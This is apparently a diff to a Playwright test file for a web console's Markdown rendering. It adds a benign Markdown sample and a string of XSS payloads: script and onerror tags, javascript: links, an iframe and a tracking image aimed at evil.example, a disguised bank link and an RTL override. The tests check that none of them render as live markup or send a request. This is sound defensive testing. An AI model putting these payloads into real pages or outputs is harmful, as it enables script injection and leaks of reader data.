@@ -32,7 +32,49 @@ BROKEN_TIMES = """() => [...document.querySelectorAll("time, .when, .lapse")].fi
   return each.checkVisibility() && new Set(tops).size > 1;
 }).map((each) => each.textContent)"""
 """The times that stand on more than one line."""
-PAST = {"What was there some days ago?": "Nothing much.", f"A long question {'with many words ' * 12}": "Yes."}
+HOSTILE = "<img src=x onerror=alert(1)><script>alert(2)</script>"
+MARKDOWN = """# What it is
+
+It has **two** parts, see [the handbook](https://example.org/handbook).
+
+- one
+- two
+  - nested
+
+## How
+
+3. third
+4. fourth
+
+```python
+print("<b>not bold</b>")
+    indented
+```
+
+| what | share in per cent of everything there is |
+| --- | ---: |
+| disk | 97 |
+| a rather long cell that wants much room | 3 |
+
+> A quotation, with `code`.
+"""
+HARMFUL = f"""{HOSTILE}
+
+<svg onload=alert(3)></svg> <style>body {{ display: none }}</style> <iframe src="https://evil.example/f"></iframe>
+
+[run](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [here](../v1/approvals)
+[https://bank.example](https://evil.example/) ![track me](https://evil.example/p.png?who=admin) <a@evil.example>
+
+[late]: javascript:alert(4)
+
+[late] and turned about: \u202ekcab.
+"""
+PAST = {
+    "What was there some days ago?": "Nothing much.",
+    f"A long question {'with many words ' * 12}": "Yes.",
+    "What does Markdown look like?": MARKDOWN,
+    "What would harm?": HARMFUL,
+}
 
 
 @pytest.fixture(scope="module")
@@ -96,3 +138,44 @@ def test_the_tables_of_the_http_reference_hold(console: ConsolePage) -> None:
     expect(console.page.locator("table").first).to_be_visible()
     holds(console)
     console.shoot("reference")
+
+
+def test_an_answer_is_shown_as_markdown(console: ConsolePage, served: PinnedGateway) -> None:
+    console.enter(ADMIN_KEY)
+    turn = console.opened("What does Markdown look like?")
+    shown = turn.locator(".markdown")
+    expect(shown.locator(".heading")).to_have_text(["What it is", "How"])
+    expect(shown.locator("strong")).to_have_text("two")
+    expect(shown.locator("ul > li")).to_have_text(["one", "twonested", "nested"])
+    expect(shown.locator("ol")).to_have_attribute("start", "3")
+    expect(shown.locator("pre")).to_have_text('print("<b>not bold</b>")\n    indented')
+    expect(shown.locator("p.hint")).to_have_text("python")
+    expect(shown.locator("td")).to_have_text(["disk", "97", "a rather long cell that wants much room", "3"])
+    expect(shown.locator("td.right")).to_have_count(2)
+    link = shown.get_by_role("link")
+    expect(link).to_have_attribute("href", "https://example.org/handbook")
+    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
+    expect(shown).to_contain_text("the handbook (https://example.org/handbook)")
+    holds(console)
+    console.shoot("markdown")
+
+
+def test_nothing_in_an_answer_is_more_than_text(console: ConsolePage, served: PinnedGateway) -> None:
+    """No markup of the model's own, no address that runs or stays here, no picture that would tell who reads."""
+    console.enter(ADMIN_KEY)
+    turn = console.opened("What would harm?")
+    shown = turn.locator(".markdown")
+    for line in (HOSTILE, "[run](javascript:alert(1))", "track me", "https://evil.example/p.png?who=admin", "<svg"):
+        expect(shown).to_contain_text(line)
+    expect(shown.locator("img, script, svg, iframe, form, style, object, [style], [onerror], [onload]")).to_have_count(
+        0
+    )
+    addresses = [link.get_attribute("href") for link in shown.get_by_role("link").all()]
+    assert addresses == ["https://evil.example/", "https://evil.example/p.png?who=admin", "mailto:a@evil.example"]
+    expect(shown).to_contain_text("https://bank.example (https://evil.example/)")
+    expect(shown).to_contain_text("here (../v1/approvals)")
+    expect(shown.locator(".ghost")).to_have_text("U+202E")
+    holds(console)
+    console.shoot("hostile-markdown")
+    # No request followed, and the fixture looks that none left the server.
+    assert not any(url.endswith(("v1/approvals", "who=admin")) for url in console.requests)
